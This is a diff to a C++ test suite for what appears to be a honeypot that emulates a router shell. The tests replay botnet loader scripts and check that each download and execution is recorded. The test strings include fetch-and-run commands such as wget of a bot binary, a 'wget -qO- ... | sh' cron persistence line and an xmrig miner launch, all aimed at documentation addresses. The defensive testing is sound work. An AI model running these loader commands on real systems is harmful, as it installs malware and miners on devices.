@@ -2,6 +2,7 @@
 // loaders (tests/data/loaders/), typed line by line into a session as a bot does: every stage that
 // fetches or writes a file reaches the collector, in order, and the shell answers like the device.
 
+#include <chrono>
 #include <fstream>
 #include <sstream>
 
@@ -74,6 +75,125 @@ TEST(LoaderFixtures, MinerHereDocBase64AndSed) {
     EXPECT_EQ(files[0].content, "#!/bin/sh\ncd /tmp/.x\n./xmrig -c config.json\n");
     EXPECT_NE(files[1].content.find("\"threads\":2}"), std::string::npos) << files[1].content; // 1 CPU * 2
     EXPECT_NE(run->output.find("\"threads\":2}"), std::string::npos);                          // tail -n 1
+}
+
+std::string readLoaderFile(const std::string& name) {
+    std::ifstream file(std::string(KANSOKU_SOURCE_DIR) + "/tests/data/loaders/" + name, std::ios::binary);
+    EXPECT_TRUE(file.good()) << name;
+    std::ostringstream text;
+    text << file.rdbuf();
+    return text.str();
+}
+
+/// Runs a line as a transport does when its shell waits for downloads: each time the line waits,
+/// the collector ends its fetches and the line resumes.
+ShellSession::LineResult runWaiting(ShellSession& session, testing::RecordingCollector& collector,
+                                    const std::string& line, size_t* waits = nullptr) {
+    auto result = session.runLine(line);
+    while (result.waiting) {
+        EXPECT_EQ(collector.completeFetches(), 1u) << line;
+        auto resumed = session.resumeLine();
+        EXPECT_TRUE(resumed.has_value()) << line;
+        if (!resumed) {
+            break;
+        }
+        result = std::move(*resumed);
+        if (waits != nullptr) {
+            ++*waits;
+        }
+    }
+    return result;
+}
+
+TEST(LoaderFixtures, WgetThenRunSeesTheFetchedFileAtEveryStage) {
+    testing::RecordingCollector collector;
+    ShellSession session(collector, SessionContext{"00000000000000f3", "telnet", "198.51.100.9", 40002, 23, ""},
+                         shell::testing::routerPersona());
+    // The bot: the persona's own ELF header (MIPS big-endian), so that `./.bot` "runs" and ps lists it.
+    const std::string bot = std::string(session.shell().filesystem().read("/bin/busybox")->substr(0, 52)) + "bot";
+    collector.serve("http://192.0.2.50/bins.sh", readLoaderFile("stages/bins.sh"));
+    collector.serve("http://192.0.2.50/bins/bot.mips", bot);
+    collector.serve("http://192.0.2.50/p.sh", readLoaderFile("stages/p.sh"));
+    int wakes = 0;
+    session.enableFetchWait(std::chrono::seconds(10), [&wakes] { ++wakes; });
+
+    std::istringstream loader(readLoaderFile("wget_stages.sh"));
+    std::string line;
+    std::string output;
+    size_t lines = 0;
+    while (std::getline(loader, line)) {
+        if (!line.empty() && line[0] != '#') {
+            output += runWaiting(session, collector, line).output;
+            ++lines;
+        }
+    }
+    session.close();
+    // Each stage was fetched before the next one was even known: in order, once each.
+    EXPECT_EQ(collector.stages(),
+              (std::vector<std::string>{"wget http://192.0.2.50/bins.sh", "wget http://192.0.2.50/bins/bot.mips",
+                                        "wget http://192.0.2.50/p.sh", "file /tmp/.cron"}));
+    EXPECT_EQ(wakes, 3);
+    EXPECT_EQ(session.fetchWaits(), 3u);
+    EXPECT_EQ(session.fetchTimeouts(), 0u);
+    std::vector<std::string> executed;
+    for (const auto& execution : collector.executions()) {
+        executed.push_back(execution.path + " " + ::testing::PrintToString(execution.argv));
+    }
+    // `sh bins.sh` runs a script (an execution of it), `./.bot` the fetched ELF.
+    EXPECT_EQ(executed,
+              (std::vector<std::string>{"/tmp/bins.sh { \"bins.sh\" }", "/tmp/.bot { \"./.bot\", \"loader.wget\" }"}));
+    EXPECT_NE(output.find("./.bot loader.wget"), std::string::npos) << output; // ps: the bot runs
+    EXPECT_NE(output.find("stage3 done"), std::string::npos) << output;        // wget -qO- | sh
+    EXPECT_NE(output.find("*/5 * * * * wget -qO- http://192.0.2.50/bins.sh | sh"), std::string::npos) << output;
+    // One honeypot.command per line typed, however often it ran while waiting.
+    EXPECT_EQ(collector.ofType("honeypot.command").size(), lines);
+}
+
+TEST(LoaderFixtures, AFetchThatNeverEndsGivesUpAtTheWaitAndIsCounted) {
+    testing::RecordingCollector collector;
+    ShellSession session(collector, SessionContext{"00000000000000f4", "telnet", "198.51.100.9", 40003, 23, ""},
+                         shell::testing::routerPersona());
+    collector.serve("http://192.0.2.50/other", "x");
+    session.enableFetchWait(std::chrono::seconds(10), [] {});
+    auto first = session.runLine("cd /tmp; wget http://192.0.2.50/slow -O s; ls -l s; echo after");
+    ASSERT_TRUE(first.waiting);
+    EXPECT_FALSE(session.resumeLine(std::chrono::steady_clock::now()).has_value()); // still within the wait
+    auto late = session.resumeLine(std::chrono::steady_clock::now() + std::chrono::seconds(11));
+    ASSERT_TRUE(late.has_value());
+    EXPECT_FALSE(late->waiting);
+    EXPECT_NE(late->output.find("after"), std::string::npos) << late->output;
+    EXPECT_NE(late->output.find(" 0 "), std::string::npos) << late->output; // an empty placeholder, as before
+    EXPECT_EQ(session.fetchTimeouts(), 1u);
+    EXPECT_EQ(collector.downloads().size(), 1u); // asked once, not again by the run after the wait
+    // The fetch ending later changes nothing for the finished line.
+    EXPECT_EQ(collector.completeFetches(), 1u);
+    EXPECT_FALSE(session.lineWaiting());
+}
+
+TEST(LoaderFixtures, AFailedFetchAnswersAsBusyBoxWgetAndLeavesNoFile) {
+    testing::RecordingCollector collector;
+    ShellSession session(collector, SessionContext{"00000000000000f5", "telnet", "198.51.100.9", 40004, 23, ""},
+                         shell::testing::routerPersona());
+    collector.serve("http://192.0.2.50/gone", "", 404);
+    session.enableFetchWait(std::chrono::seconds(10), [] {});
+    auto result = runWaiting(session, collector, "cd /tmp; wget http://192.0.2.50/gone -O g && echo ok; ls g");
+    EXPECT_NE(result.output.find("wget: server returned error: HTTP/1.1 404 Not Found"), std::string::npos)
+        << result.output;
+    EXPECT_EQ(result.output.find("ok\n"), std::string::npos) << result.output;
+    EXPECT_NE(result.output.find("ls: g: No such file or directory"), std::string::npos) << result.output;
+}
+
+TEST(LoaderFixtures, ASessionClosedWhileALineWaitsStillRecordsTheLine) {
+    testing::RecordingCollector collector;
+    ShellSession session(collector, SessionContext{"00000000000000f6", "telnet", "198.51.100.9", 40005, 23, ""},
+                         shell::testing::routerPersona());
+    collector.serve("http://192.0.2.50/x", "x");
+    session.enableFetchWait(std::chrono::seconds(10), [] {});
+    ASSERT_TRUE(session.runLine("wget http://192.0.2.50/x; echo hi > f").waiting);
+    session.close();
+    EXPECT_EQ(collector.ofType("honeypot.command").size(), 1u);
+    EXPECT_EQ(collector.downloads().size(), 1u);
+    EXPECT_EQ(collector.completeFetches(), 1u); // ends after the session: ignored
 }
 
 TEST(LoaderFixtures, StartedBotsShowInPsUntilKilled) {
